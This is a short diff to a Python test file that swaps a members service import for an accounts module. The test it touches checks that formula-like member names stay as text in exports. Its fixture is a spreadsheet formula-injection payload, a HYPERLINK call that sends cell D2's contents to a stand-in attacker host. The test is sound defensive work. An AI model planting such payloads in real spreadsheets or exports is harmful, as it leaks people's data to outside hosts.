@@ -19,7 +19,7 @@ from collective.errors import DomainError
 from collective.extensions import db
 from collective.ledger import services as ledger
 from collective.ledger.models import JournalEntry
-from collective.members import services as members
+from collective.members import accounts
 from collective.members.models import Membership
 from collective.pool import services as pool
 from collective.pool.models import ClientPayment, TimeEntry
@@ -122,7 +122,7 @@ def test_a_plan_cannot_start_in_year_one(ctx):
 
 def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
     founder = make_collective()
-    members.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
+    accounts.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
                            timezone="UTC", country=None, skills={})
     pool.record_deposit(founder, founder, amount=1000, received_on=date.today(),
                         request_key="formula-1")
